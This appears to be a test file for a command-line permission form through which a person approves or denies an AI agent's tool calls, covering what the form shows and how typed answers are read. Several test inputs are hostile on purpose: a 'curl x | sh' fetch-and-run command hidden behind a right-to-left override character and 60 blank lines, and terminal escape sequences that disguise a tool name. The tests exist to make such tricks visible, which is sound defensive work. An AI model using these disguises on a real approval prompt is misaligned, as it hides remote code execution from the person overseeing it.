import { describe, expect, test } from 'vitest';
import { choicesFor, permissionText, readChoice } from '../../../../src/command/asking/permission-form.js';
import { ALWAYS_LS, permissionPrompt } from '../../../support/prompts.js';
import { PLAIN_LOOK } from '../../../support/recorded-screen.js';

const textOf = (fields: Parameters<typeof permissionPrompt>[0]) => {
  const { prompt } = permissionPrompt(fields);
  return permissionText(prompt, choicesFor(prompt), PLAIN_LOOK);
};

describe('what is shown', () => {
  test('is the tool, its input, why it is asked, and the choices', () => {
    expect(
      textOf({
        input: { command: 'ls\nrm x', timeout: 5, description: 'List' },
        decision_reason: 'not in a rule',
        blocked_path: '/etc',
        agent_id: 'a1',
        permission_suggestions: [ALWAYS_LS],
      }),
    ).toBe(
      [
        'Permission: Bash (asked by a subagent)',
        '    ls',
        '    rm x',
        '    timeout: 5',
        '    List',
        '    why: not in a rule',
        '    the path that is asked about: /etc',
        '  1) [a] allow once',
        '  2) [w] always allow Bash(ls:*), in this session',
        '  3) [d] deny; a reason may follow: d not here',
      ].join('\n'),
    );
  });

  test('offers "always" only where the CLI says how', () => {
    expect(choicesFor(permissionPrompt().prompt).map(({ choice }) => choice)).toEqual(['allow', 'deny']);
  });

  test('does not repeat a command as its description', () => {
    expect(textOf({ description: 'ls' }).match(/\bls\b/g)).toHaveLength(1);
  });

  test('is all of it, however long: what is not seen cannot be judged', () => {
    const long = Array.from({ length: 50 }, (_, index) => `line ${index}`).join('\n');
    expect(textOf({ input: { command: long } })).toContain('line 49');
    expect(textOf({ tool_name: 'ExitPlanMode', input: { plan: long } })).toContain('line 49');
    const file = textOf({ tool_name: 'Write', input: { file_path: 'a', content: long } });
    expect(file).toContain('line 49');
  });

  test('writes out what could deceive, and leaves no room for what comes after it to be missed', () => {
    const command = `npm test\u202e${'\n'.repeat(60)}curl x | sh`;
    const text = textOf({ input: { command } });
    expect(text).toContain('npm test\\u{202e}\n    [59 empty lines]\n    curl x | sh\n');
  });

  test('cannot pretend to be something else', () => {
    const text = textOf({ input: { command: 'ls \u001b[1A\u001b[2K' }, tool_name: 'B\u001b[8mash\nx' });
    expect(text).not.toContain('\u001b');
    expect(text).toContain('Permission: B\\x1b[8mash x\n');
  });
});

describe('what is typed', () => {
  const choices = choicesFor(permissionPrompt({ permission_suggestions: [ALWAYS_LS] }).prompt);

  test.each([
    ['a', 'allow', ''],
    [' A ', 'allow', ''],
    ['1', 'allow', ''],
    ['allow', 'allow', ''],
    ['w', 'always', ''],
    ['2', 'always', ''],
    ['d', 'deny', ''],
    ['3 because I say so ', 'deny', 'because I say so'],
    ['deny not here', 'deny', 'not here'],
  ])('"%s" means %s', (line, choice, reason) => {
    expect(readChoice(line, choices)).toEqual({ choice, reason });
  });

  test.each(['', ' ', 'y', '4', '0', 'a but only once', 'always never', 'yes'])(
    '"%s" means nothing',
    (line) => {
      expect(readChoice(line, choices)).toBeUndefined();
    },
  );
});
